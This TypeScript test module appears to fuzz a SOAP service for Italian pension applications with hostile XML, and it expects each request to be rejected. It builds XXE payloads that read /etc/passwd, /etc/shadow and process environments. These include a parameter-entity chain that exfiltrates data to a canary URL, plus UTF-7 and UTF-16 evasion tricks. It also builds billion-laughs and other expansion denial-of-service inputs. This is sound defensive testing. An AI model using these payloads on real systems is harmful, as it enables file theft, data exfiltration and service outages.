import { OPERATORE, rawEnvelope } from '../raw-soap';
import type { Code, HostileCase } from './cases';
import { type CaseKit, NS, XML_DECL, post } from './kit';

/**
 * Hostile requests carrying a DTD or its equivalent: external entities (XXE) in every disguise, and entity
 * expansion (billion laughs, quadratic blow-up) with its DTD-less cousins (huge texts, many attributes).
 */

// ---------------------------------------------------------------------------------------------- XXE
export function xxe(kit: CaseKit): HostileCase {
  const r = kit.rng;
  const canary = kit.ctx.canaryUrl;
  const target = r.pick([
    'file:///etc/passwd', 'file:///etc/passwd', 'file:///etc/shadow', 'file:///proc/self/environ', 'file:///dev/random', 'file:///dev/zero',
    'http://127.0.0.1:1/x', 'https://127.0.0.1:1/x', `${canary}/xxe-${r.string(6)}`, `${canary}/xxe.dtd`, 'ftp://127.0.0.1:1/x',
    'php://filter/resource=/etc/passwd', '/etc/passwd', '../../../../../../etc/passwd', 'jar:file:///tmp/x.jar!/y', 'expect://id', 'netdoc:///etc/passwd',
  ]);
  const doctypeKw = r.pick(['<!DOCTYPE', '<!DOCTYPE', '<!DOCTYPE', '<!doctype', '<!DocType', '<!DOCTYPE\n']);
  const root = r.pick(['soap:Envelope', 'x', 'Envelope']);
  const ws = r.pick([' ', '\n', '\t', '  \r\n ']);
  const form = r.pick([
    'system-entity', 'system-entity', 'public-entity', 'parameter-entity', 'parameter-exfiltration', 'external-subset', 'external-subset-public',
    'entity-in-attribute', 'after-comment', 'after-bom', 'entity-decl-only', 'doctype-in-body', 'xinclude', 'xinclude-payload', 'schema-location',
    'no-namespace-schema-location', 'utf7-evasion', 'utf16le-evasion', 'utf16be-evasion', 'utf16-bom-evasion', 'latin1-declared', 'undeclared-entity',
  ] as const);
  const ref = '&xxe;';
  const dtd = (internal: string) => `${doctypeKw}${ws}${root}${ws}[${internal}]>`;
  const withCognome = (p: string, value: string) => p.replace(/<ist:Cognome>[^<]*<\/ist:Cognome>/, `<ist:Cognome>${value}</ist:Cognome>`);
  const DTD: readonly Code[] = ['DTD_NON_AMMESSA'];
  const label = `xxe:${form}`;
  return kit.make('xxe', label, `${form} -> ${target}`, (prot) => {
    const env = (m: (p: string) => string = (p) => p) => kit.envelope(prot, m);
    const afterDecl = (prefix: string, m: (p: string) => string = (p) => p) => env(m).replace(XML_DECL, `${XML_DECL}${prefix}`);
    switch (form) {
      case 'system-entity':
        return { request: post(afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`), (p) => withCognome(p, ref))), expect: DTD };
      case 'public-entity':
        return { request: post(afterDecl(dtd(`<!ENTITY xxe PUBLIC "-//APE//FUZZ//IT" "${target}">`), (p) => withCognome(p, ref))), expect: DTD };
      case 'parameter-entity':
        return { request: post(afterDecl(dtd(`<!ENTITY % p SYSTEM "${target}"> %p;`))), expect: DTD };
      case 'parameter-exfiltration':
        return {
          request: post(afterDecl(dtd(`<!ENTITY % f SYSTEM "${target}"><!ENTITY % d "<!ENTITY &#x25; e SYSTEM '${canary}/?%f;'>"> %d; %e;`), (p) => withCognome(p, ref))),
          expect: DTD,
        };
      case 'external-subset':
        return { request: post(afterDecl(`${doctypeKw}${ws}${root}${ws}SYSTEM "${target}">`)), expect: DTD };
      case 'external-subset-public':
        return { request: post(afterDecl(`${doctypeKw}${ws}${root}${ws}PUBLIC "-//APE//FUZZ//IT" "${target}">`)), expect: DTD };
      case 'entity-in-attribute':
        return {
          request: post(afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`)).replace(`xmlns:ist="${NS.ist}"`, `xmlns:ist="${NS.ist}" xmlns:z="${ref}"`)),
          expect: DTD,
        };
      case 'after-comment':
        return { request: post(afterDecl(`<!-- fuzz --><?pi x?>${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}`, (p) => withCognome(p, ref))), expect: DTD };
      case 'after-bom':
        return { request: post(`\uFEFF${afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`), (p) => withCognome(p, ref))}`), expect: DTD };
      case 'entity-decl-only':
        // An entity declaration smuggled into a comment of an otherwise valid message: refused all the same.
        return { request: post(env((p) => p.replace('<ist:Richiedente>', `<!-- <!ENTITY xxe SYSTEM "${target}"> --><ist:Richiedente>`))), expect: DTD };
      case 'doctype-in-body':
        return { request: post(env((p) => `${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}${withCognome(p, ref)}`)), expect: DTD };
      case 'xinclude':
        return {
          request: post(env((p) => withCognome(p, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}" parse="text"/>`))),
          expect: ['SCHEMA_NON_VALIDO'],
        };
      case 'xinclude-payload':
        return {
          request: post(rawEnvelope(OPERATORE, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${target}" parse="${r.pick(['text', 'xml'])}"/>`)),
          expect: ['OPERAZIONE_SCONOSCIUTA'],
        };
      case 'schema-location':
        // Made invalid (category J) so that, refused, it proves the schema hint was not used to relax validation.
        return {
          request: post(
            env((p) =>
              p
                .replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${NS.ist} ${canary}/evil.xsd">`)
                .replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>'),
            ),
          ),
          expect: ['SCHEMA_NON_VALIDO'],
        };
      case 'no-namespace-schema-location':
        return {
          request: post(
            env((p) =>
              p
                .replace('<ist:PresentaDomanda>', `<ist:PresentaDomanda xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${target}">`)
                .replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>'),
            ),
          ),
          expect: ['SCHEMA_NON_VALIDO'],
        };
      case 'utf7-evasion':
        // "+ADwAIQ-" is "<!" in UTF-7: a DTD the ASCII check cannot see, if the parser honoured the declaration.
        return {
          request: post(env((p) => withCognome(p, '+ACY-xxe+ADs-')).replace(XML_DECL, `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE soap:Envelope +AFsAPAAh-ENTITY xxe SYSTEM +ACI-${target}+ACIAPgBd-+AD4-`)),
          expect: ['DTD_NON_AMMESSA', 'XML_MALFORMATO'],
        };
      case 'utf16le-evasion':
      case 'utf16be-evasion': {
        const text = env((p) => withCognome(p, ref)).replace(XML_DECL, `<?xml version="1.0" encoding="UTF-16"?>${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}`);
        const le = Buffer.from(text, 'utf16le');
        return { request: post(form === 'utf16le-evasion' ? le : le.swap16()), expect: ['DTD_NON_AMMESSA', 'XML_MALFORMATO'] };
      }
      case 'utf16-bom-evasion': {
        const text = `\uFEFF${env((p) => withCognome(p, ref)).replace(XML_DECL, `<?xml version="1.0" encoding="UTF-16"?>${dtd(`<!ENTITY xxe SYSTEM "${target}">`)}`)}`;
        return { request: post(Buffer.from(text, 'utf16le')), expect: ['DTD_NON_AMMESSA', 'XML_MALFORMATO'] };
      }
      case 'latin1-declared':
        return {
          request: post(afterDecl(dtd(`<!ENTITY xxe SYSTEM "${target}">`), (p) => withCognome(p, ref)).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')),
          expect: DTD,
        };
      case 'undeclared-entity':
        return { request: post(env((p) => withCognome(p, ref))), expect: ['XML_MALFORMATO'] };
    }
  });
}

// ------------------------------------------------------------------------------------ entity expansion
/** A huge text, attribute or element count is refused by the limits' scan (XML_TROPPO_COMPLESSO) when over them. */
const SCHEMA_OR_LIMIT: readonly Code[] = ['SCHEMA_NON_VALIDO', 'XML_TROPPO_COMPLESSO'];

export function entityExpansion(kit: CaseKit): HostileCase {
  const r = kit.rng;
  const max = kit.ctx.maxBodyBytes;
  const form = r.pick([
    'billion-laughs', 'billion-laughs', 'quadratic-blowup', 'quadratic-blowup', 'parameter-recursion', 'entity-recursion', 'attlist-default-namespace',
    'huge-text', 'huge-text', 'huge-text-unknown-element', 'huge-attribute', 'many-attributes', 'many-siblings', 'many-namespaces', 'many-comments',
  ] as const);
  const depth = r.int(3, 12);
  const width = r.int(2, 12);
  const entitySize = r.logInt(1_000, 60_000);
  const textSize = r.int(50_000, max - 6_000);
  const count = r.int(2_000, 20_000);
  const repro =
    form === 'billion-laughs' ? `${form} depth ${depth} width ${width}`
    : form === 'quadratic-blowup' ? `${form} entity of ${entitySize} chars`
    : form.startsWith('huge') ? `${form} of ${textSize} chars`
    : form.startsWith('many') ? `${form} x${count}`
    : form;
  return kit.make('entity-expansion', `expansion:${form}`, repro, (prot) => {
    const withCognome = (p: string, value: string) => p.replace(/<ist:Cognome>[^<]*<\/ist:Cognome>/, `<ist:Cognome>${value}</ist:Cognome>`);
    const withDtd = (internal: string, cognome: string) =>
      kit.envelope(prot, (p) => withCognome(p, cognome)).replace(XML_DECL, `${XML_DECL}<!DOCTYPE soap:Envelope [${internal}]>`);
    const DTD: readonly Code[] = ['DTD_NON_AMMESSA'];
    switch (form) {
      case 'billion-laughs': {
        let decl = '<!ENTITY lol0 "lol">';
        for (let i = 1; i <= depth; i++) decl += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(width)}">`;
        return { request: post(withDtd(decl, `&lol${depth};`)), expect: DTD };
      }
      case 'quadratic-blowup': {
        const refs = Math.max(1, Math.floor((max - entitySize - 4_000) / 4));
        return { request: post(withDtd(`<!ENTITY a "${'a'.repeat(entitySize)}">`, '&a;'.repeat(Math.min(refs, 60_000)))), expect: DTD };
      }
      case 'parameter-recursion':
        return { request: post(withDtd('<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;"> %a;', 'Rossi')), expect: DTD };
      case 'entity-recursion':
        return { request: post(withDtd('<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;')), expect: DTD };
      case 'attlist-default-namespace':
        // A DTD default attribute could rebind a namespace for one parser and not the other.
        return { request: post(withDtd(`<!ATTLIST ist:Cognome xmlns:ist CDATA #FIXED "urn:fuzz">`, 'Rossi')), expect: DTD };
      case 'huge-text':
        return { request: post(kit.envelope(prot, (p) => withCognome(p, 'R'.repeat(textSize)))), expect: SCHEMA_OR_LIMIT };
      case 'huge-text-unknown-element':
        return { request: post(kit.envelope(prot, (p) => p.replace('</ist:Richiedente>', `<ist:Note>${'x '.repeat(textSize >> 1)}</ist:Note></ist:Richiedente>`))), expect: SCHEMA_OR_LIMIT };
      case 'huge-attribute':
        return { request: post(kit.envelope(prot, (p) => p.replace('<ist:Cognome>', `<ist:Cognome note="${'v'.repeat(textSize)}">`))), expect: SCHEMA_OR_LIMIT };
      case 'many-attributes': {
        const n = Math.min(count, Math.floor((max - 8_000) / 12));
        let attrs = '';
        for (let i = 0; i < n; i++) attrs += ` a${i}="x"`;
        return { request: post(kit.envelope(prot, (p) => p.replace('<ist:Cognome>', `<ist:Cognome${attrs}>`))), expect: SCHEMA_OR_LIMIT };
      }
      case 'many-siblings':
        return { request: post(kit.envelope(prot, (p) => p.replace('</ist:Richiedente>', `${'<ist:x/>'.repeat(Math.min(count, 25_000))}</ist:Richiedente>`))), expect: SCHEMA_OR_LIMIT };
      case 'many-namespaces': {
        const n = Math.min(count, Math.floor((max - 8_000) / 32));
        let decls = '';
        for (let i = 0; i < n; i++) decls += ` xmlns:p${i}="urn:f:${i}"`;
        return {
          request: post(kit.envelope(prot, (p) => p.replace('<ist:Cognome>', `<ist:Cognome${decls}>`).replace('<ist:Categoria>A</ist:Categoria>', '<ist:Categoria>J</ist:Categoria>'))),
          expect: SCHEMA_OR_LIMIT,
        };
      }
      case 'many-comments':
        return {
          request: post(kit.envelope(prot, (p) => p.replace('<ist:Cognome>Rossi', `<ist:Cognome>Rossi${'<!---->'.repeat(Math.min(count, 30_000))}`).replace('<ist:TipoDomanda>APE_SOCIALE', '<ist:TipoDomanda>APE'))),
          expect: SCHEMA_OR_LIMIT,
        };
    }
  });
}
